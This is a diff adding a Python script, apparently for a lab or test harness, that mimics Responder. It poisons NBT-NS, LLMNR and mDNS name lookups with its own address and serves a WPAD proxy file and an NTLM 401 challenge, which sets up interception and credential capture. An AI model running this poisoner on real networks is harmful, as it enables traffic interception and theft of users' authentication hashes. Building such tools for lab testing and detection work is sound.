@@ -1,0 +1,174 @@
+#!/usr/bin/python3
+"""A Responder-like poisoner for the lab (run inside ad-poisoner). It answers the way
+shared/notes/poisoning-facts.md describes Responder:
+
+- NBT-NS: every broadcast name query with flags 0x0110, answered unicast with flags 0x8500,
+  QDCOUNT 0, ANCOUNT 1, NB_FLAGS 0, TTL 165, its own address;
+- LLMNR over IPv4 and IPv6: every query with flags 0, answered with flags 0x8000, the question
+  copied, the answer name written in full (no compression pointer), TTL 30;
+- mDNS: every query, answered unicast to the querier with ID 0, flags 0x8400, no question,
+  no cache-flush bit, TTL 120;
+- HTTP on port 80: /wpad.dat (`Server: BigIP`, PAC `PROXY <ip>:3128; DIRECT`), anything else
+  401 with `WWW-Authenticate: NTLM`.
+
+Every answer it sends is logged as a JSON line (--log), so tests can count them.
+Only stdlib; addresses from the lab (198.18.0.0/15, fd00:198:18::/64).
+"""
+import argparse
+import http.server
+import json
+import socket
+import struct
+import threading
+import time
+
+LOCK = threading.Lock()
+
+
+def log(path, **kv):
+    kv["t"] = time.time()
+    with LOCK, open(path, "a") as f:
+        f.write(json.dumps(kv) + "\n")
+
+
+def read_name(m, off):
+    labels = []
+    while m[off] != 0:
+        n = m[off]
+        labels.append(m[off + 1:off + 1 + n].decode("latin-1"))
+        off += 1 + n
+    return ".".join(labels), off + 1
+
+
+def nb_decode(enc):
+    raw = bytes(((enc[i] - 65) << 4) | (enc[i + 1] - 65) for i in range(0, 32, 2))
+    return raw[:15].decode("latin-1").rstrip(), raw[15]
+
+
+def nbns(a):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
+    s.bind(("", 137))
+    ip = socket.inet_aton(a.ip4)
+    while True:
+        m, src = s.recvfrom(2048)
+        if len(m) < 50 or src[0] == a.ip4:
+            continue
+        tid, flags, qd = struct.unpack(">HHH", m[:6])
+        if flags != 0x0110 or qd != 1:  # Responder: broadcast queries with these exact flags only
+            continue
+        name = m[12:46]
+        ans = struct.pack(">HHHHHH", tid, 0x8500, 0, 1, 0, 0) + name + struct.pack(">HHIHH", 0x20, 1, 165, 6, 0) + ip
+        s.sendto(ans, src)
+        n, suffix = nb_decode(name[1:33])
+        log(a.log, proto="nbns", name=n, suffix=suffix, to=src[0])
+
+
+def llmnr_answer(m, a, v6):
+    tid, flags, qd, an = struct.unpack(">HHHH", m[:8])
+    if flags != 0 or qd != 1 or an != 0:  # Responder: plain queries only
+        return None, None
+    name, off = read_name(m, 12)
+    qtype, qclass = struct.unpack(">HH", m[off:off + 4])
+    question = m[12:off + 4]
+    if qtype == 28:
+        rdata = socket.inet_pton(socket.AF_INET6, a.ip6)
+    else:
+        qtype, rdata = 1, socket.inet_aton(a.ip4)
+    full = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\x00"
+    ans = struct.pack(">HHHHHH", tid, 0x8000, 1, 1, 0, 0) + question + full + struct.pack(">HHIH", qtype, 1, 30, len(rdata)) + rdata
+    return ans, name
+
+
+def llmnr4(a):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    s.bind(("", 5355))
+    s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton("224.0.0.252") + socket.inet_aton(a.ip4))
+    while True:
+        m, src = s.recvfrom(2048)
+        if src[0] == a.ip4:
+            continue
+        ans, name = llmnr_answer(m, a, False)
+        if ans:
+            s.sendto(ans, src)
+            log(a.log, proto="llmnr4", name=name, to=src[0])
+
+
+def llmnr6(a):
+    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
+    s.bind(("::", 5355))
+    idx = socket.if_nametoindex(a.iface)
+    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_JOIN_GROUP, socket.inet_pton(socket.AF_INET6, "ff02::1:3") + struct.pack("@I", idx))
+    while True:
+        m, src = s.recvfrom(2048)
+        if src[0] == a.ip6:
+            continue
+        ans, name = llmnr_answer(m, a, True)
+        if ans:
+            s.sendto(ans, src)
+            log(a.log, proto="llmnr6", name=name, to=src[0])
+
+
+def mdns(a):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    s.bind(("", 5353))
+    s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton("224.0.0.251") + socket.inet_aton(a.ip4))
+    while True:
+        m, src = s.recvfrom(2048)
+        if src[0] == a.ip4 or len(m) < 12:
+            continue
+        _, flags, qd = struct.unpack(">HHH", m[:6])
+        if flags & 0x8000 or qd < 1:
+            continue
+        name, off = read_name(m, 12)
+        full = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\x00"
+        ans = struct.pack(">HHHHHH", 0, 0x8400, 0, 1, 0, 0) + full + struct.pack(">HHIH", 1, 1, 120, 4) + socket.inet_aton(a.ip4)
+        s.sendto(ans, src)  # unicast to the querier, even for QM questions
+        log(a.log, proto="mdns", name=name, to=src[0])
+
+
+class Http(http.server.BaseHTTPRequestHandler):
+    def do_GET(self):
+        a = self.server.args
+        if self.path.endswith("wpad.dat"):
+            body = f'function FindProxyForURL(url, host){{return "PROXY {a.ip4}:3128; DIRECT";}}'.encode()
+            self.send_response(200)
+            self.send_header("Content-Type", "application/x-ns-proxy-autoconfig")
+        else:
+            body = b""
+            self.send_response(401)
+            self.send_header("WWW-Authenticate", "NTLM")
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+        log(a.log, proto="http", path=self.path, to=self.client_address[0])
+
+    def version_string(self):
+        return "BigIP"
+
+    def log_message(self, *args):
+        pass
+
+
+def main():
+    p = argparse.ArgumentParser()
+    p.add_argument("--ip4", default="198.18.0.66")
+    p.add_argument("--ip6", default="fd00:198:18::66")
+    p.add_argument("--iface", default="eth0")
+    p.add_argument("--log", required=True)
+    a = p.parse_args()
+    for fn in (nbns, llmnr4, llmnr6, mdns):
+        threading.Thread(target=fn, args=(a,), daemon=True).start()
+    srv = http.server.ThreadingHTTPServer(("0.0.0.0", 80), Http)
+    srv.args = a
+    log(a.log, proto="ready")
+    srv.serve_forever()
+
+
+if __name__ == "__main__":
+    main()
